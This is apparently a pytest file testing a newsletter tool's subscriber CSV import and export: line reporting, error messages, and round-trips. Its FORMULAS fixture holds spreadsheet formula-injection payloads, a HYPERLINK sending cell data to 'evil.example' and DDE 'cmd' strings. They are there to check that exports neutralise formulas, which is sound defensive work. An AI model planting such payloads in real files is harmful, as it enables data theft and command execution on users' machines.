"""Subscriber lists as CSV: what an import reads (and the line it reports for
each row), the errors that name the file and line, and what an export writes."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from conftest import ROOT
from newsletter.core.errors import ListError
from newsletter.readers.lists import EXPORT_COLUMNS, read_subscriber_csv, write_subscriber_csv
from newsletter.core.models import Subscriber, SubscriberRow


def write(tmp_path, data: bytes | str, name: str = "list.csv"):
    path = tmp_path / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def read(tmp_path, data: bytes | str) -> list[tuple]:
    """The (line, email, name) of each row of a file holding ``data``."""
    return [(row.line, row.email, row.name) for row in read_subscriber_csv(write(tmp_path, data))]


def list_error(tmp_path, data: bytes | str, name: str = "members.csv") -> str:
    path = write(tmp_path, data, name)
    with pytest.raises(ListError) as caught:
        read_subscriber_csv(path)
    message = str(caught.value)
    assert str(path) in message
    assert "\n" not in message
    return message


# --------------------------------------------------------------------------
# good files


def test_the_example_list():
    rows = read_subscriber_csv(ROOT / "subscribers" / "example.csv")
    assert len(rows) == 5
    assert rows[0] == SubscriberRow(2, "ada@example.com", "Ada Lovelace")
    assert [row.line for row in rows] == [2, 3, 4, 5, 6]


def test_header_is_case_insensitive_and_values_are_stripped(tmp_path):
    rows = read(tmp_path, " Email , NAME \n  ada@example.com ,  Ada Lovelace \n")
    assert rows == [(2, "ada@example.com", "Ada Lovelace")]


def test_byte_order_mark(tmp_path):
    rows = read(tmp_path, "\ufeffemail,name\nada@example.com,Ada\n".encode("utf-8"))
    assert rows == [(2, "ada@example.com", "Ada")]


def test_name_is_optional(tmp_path):
    assert read(tmp_path, "email\nada@example.com\ngrace@example.com\n") == [
        (2, "ada@example.com", None),
        (3, "grace@example.com", None),
    ]
    # An empty name is no name.
    assert read(tmp_path, "email,name\nada@example.com,  \n") == [(2, "ada@example.com", None)]


def test_extra_columns_are_ignored_in_any_order(tmp_path):
    rows = read(tmp_path, "id,Name,city,EMAIL\n1,Ada Lovelace,London,ada@example.com\n2,,Paris,marie@example.com\n")
    assert rows == [(2, "ada@example.com", "Ada Lovelace"), (3, "marie@example.com", None)]


def test_blank_lines_are_skipped_and_lines_still_counted(tmp_path):
    data = "\n\nemail,name\n\nada@example.com,Ada\n , \n\ngrace@example.com,Grace\n\n"
    assert read(tmp_path, data) == [(5, "ada@example.com", "Ada"), (8, "grace@example.com", "Grace")]


def test_crlf_and_cr_line_endings(tmp_path):
    assert read(tmp_path, "email,name\r\n\r\nada@example.com,Ada\r\nbob@example.com,Bob\r\n") == [
        (3, "ada@example.com", "Ada"),
        (4, "bob@example.com", "Bob"),
    ]
    assert read(tmp_path, "email,name\rada@example.com,Ada\rbob@example.com,Bob\r") == [
        (2, "ada@example.com", "Ada"),
        (3, "bob@example.com", "Bob"),
    ]


def test_multi_line_quoted_fields_report_the_line_where_the_row_begins(tmp_path):
    data = (
        "email,name\n"
        'ada@example.com,"Ada\nLovelace"\n'  # lines 2-3
        "bob@example.com,Bob\n"  # line 4
        'carol@example.com,"C,\n\n""Carol""\n"\n'  # lines 5-8
        "dan@example.com,Dan\n"  # line 9
    )
    rows = read(tmp_path, data)
    assert [(line, email) for line, email, _ in rows] == [
        (2, "ada@example.com"),
        (4, "bob@example.com"),
        (5, "carol@example.com"),
        (9, "dan@example.com"),
    ]
    assert rows[0][2] == "Ada\nLovelace"
    assert rows[2][2] == 'C,\n\n"Carol"'


def test_quoted_commas_and_unicode(tmp_path):
    rows = read(tmp_path, 'email,name\n"ada@example.com","Lovelace, Ada"\nmüller@example.de,Jürgen Müller\n')
    assert rows == [(2, "ada@example.com", "Lovelace, Ada"), (3, "müller@example.de", "Jürgen Müller")]


def test_a_header_with_no_rows(tmp_path):
    assert read(tmp_path, "email,name\n") == []


def test_invalid_addresses_are_read_as_they_are(tmp_path):
    """Checking addresses is the store's job: the reader passes them on."""
    assert read(tmp_path, "email\nnot an address\n") == [(2, "not an address", None)]


# --------------------------------------------------------------------------
# errors


def test_missing_file(tmp_path):
    path = tmp_path / "nowhere.csv"
    with pytest.raises(ListError, match="no such file") as caught:
        read_subscriber_csv(path)
    assert str(path) in str(caught.value)


def test_a_folder_is_not_a_file(tmp_path):
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(ListError, match="cannot read") as caught:
        read_subscriber_csv(tmp_path / "folder.csv")
    assert "folder.csv" in str(caught.value)


@pytest.mark.parametrize("data", [b"", b"\n\n  \n", "\ufeff".encode("utf-8"), b",,\n,\n"])
def test_empty_file(tmp_path, data):
    message = list_error(tmp_path, data)
    assert "empty file" in message
    assert "email" in message


def test_no_email_column(tmp_path):
    message = list_error(tmp_path, "\nmail,name\nada@example.com,Ada\n")
    assert "line 2" in message
    assert "no 'email' column" in message
    assert "mail, name" in message  # what it found instead


def test_a_row_without_a_header(tmp_path):
    message = list_error(tmp_path, "ada@example.com,Ada\ngrace@example.com,Grace\n")
    assert "line 1" in message and "no 'email' column" in message


@pytest.mark.parametrize(
    "data, line, fields",
    [
        ("email,name\nada@example.com,Ada\nbob@example.com,Bob,extra\n", 3, 3),
        ("email,name\nada@example.com,Ada\n\nbob@example.com\n", 4, 1),
        ('email,name\nada@example.com,"Ada\nLovelace",extra\n', 2, 3),
    ],
)
def test_a_row_with_the_wrong_number_of_fields(tmp_path, data, line, fields):
    message = list_error(tmp_path, data)
    assert f"line {line}:" in message
    assert f"{fields} fields" in message and "header has 2" in message


def test_an_unterminated_quote_names_the_line_where_it_begins(tmp_path):
    data = 'email,name\nada@example.com,Ada\nbob@example.com,"Bob\ncarol@example.com,Carol\ndan@example.com,Dan\n'
    message = list_error(tmp_path, data)
    assert "line 3:" in message
    assert "malformed CSV" in message


def test_a_stray_quote_in_strict_mode(tmp_path):
    message = list_error(tmp_path, 'email,name\nada@example.com,"Ada"x\n')
    assert "line 2:" in message and "malformed CSV" in message


def test_invalid_utf8(tmp_path):
    data = "email,name\nada@example.com,Ada\n".encode("utf-8") + b"bjorn@example.com,Bj\xf6rn\n"
    message = list_error(tmp_path, data, "latin1.csv")
    assert "line 3" in message
    assert "UTF-8" in message


# --------------------------------------------------------------------------
# export


def subscriber(i: int, email: str, name: str | None, status: str = "active") -> Subscriber:
    stamp = dt.datetime(2025, 3, 11, 8, 30, tzinfo=dt.timezone.utc) + dt.timedelta(minutes=i)
    return Subscriber(id=i, ref=f"ref{i}", email=email, name=name, status=status, source="cli",
                      created_at=stamp, updated_at=stamp)


EXPORTED = [
    subscriber(1, "ada@example.com", "Lovelace, Ada"),
    subscriber(2, "grace@example.com", None, "unsubscribed"),
    subscriber(3, "quote@example.com", 'The "Quoted" One', "bounced"),
    subscriber(4, "jürgen@example.de", "Jürgen Müller", "complained"),
]


def test_export_parses_back_with_csv():
    out = io.StringIO()
    assert write_subscriber_csv(iter(EXPORTED), out) == 4
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == EXPORT_COLUMNS
    assert [(r["email"], r["name"], r["status"]) for r in rows] == [
        (s.email, s.name or "", s.status) for s in EXPORTED
    ]
    assert dt.datetime.fromisoformat(rows[0]["created_at"]) == EXPORTED[0].created_at
    assert dt.datetime.fromisoformat(rows[3]["updated_at"]) == EXPORTED[3].updated_at
    assert "ref1" not in out.getvalue()  # the opaque reference is not exported


def test_export_of_nobody_is_just_the_header():
    out = io.StringIO()
    assert write_subscriber_csv([], out) == 0
    assert out.getvalue() == ",".join(EXPORT_COLUMNS) + "\n"


def test_an_export_can_be_imported_again(tmp_path):
    path = tmp_path / "export.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        write_subscriber_csv(EXPORTED, handle)
    assert read_subscriber_csv(path) == [SubscriberRow(i + 2, s.email, s.name) for i, s in enumerate(EXPORTED)]


FORMULAS = [
    subscriber(1, "ada@example.com", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    subscriber(2, "-x@example.com", "-2+3"),
    subscriber(3, "+tag@example.com", "+cmd|' /C calc'!A0"),
    subscriber(4, "=sum@example.com", "@SUM(1+1)*cmd|' /C calc'!A0"),
    subscriber(5, "tab@example.com", "\tTabbed"),
    subscriber(6, "cr@example.com", "\rReturned"),
    subscriber(7, "plain@example.com", "Plain - Name = fine"),
]


def test_export_neutralises_spreadsheet_formulas():
    out = io.StringIO()
    write_subscriber_csv(FORMULAS, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    for row, s in zip(rows, FORMULAS):
        for column, value in (("email", s.email), ("name", s.name)):
            if value[0] in "=+-@\t\r":
                assert row[column] == "'" + value  # a spreadsheet shows it as text
            else:
                assert row[column] == value
    # No cell of the file starts a formula.
    for row in csv.reader(io.StringIO(out.getvalue(), newline="")):
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


def test_an_export_with_formulas_imports_back_unchanged(tmp_path):
    path = tmp_path / "export.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        write_subscriber_csv(FORMULAS, handle)
    rows = read_subscriber_csv(path)
    assert [(row.email, row.name) for row in rows] == [(s.email, s.name.strip()) for s in FORMULAS]


def test_an_import_removes_only_the_quote_an_export_adds(tmp_path):
    rows = read(tmp_path, "email,name\n'-x@example.com,'=Name\n'ada@example.com,'Quoted'\n"
                          "\"'+y@example.com\",  '@at\n")
    assert rows == [(2, "-x@example.com", "=Name"), (3, "'ada@example.com", "'Quoted'"), (4, "+y@example.com", "@at")]
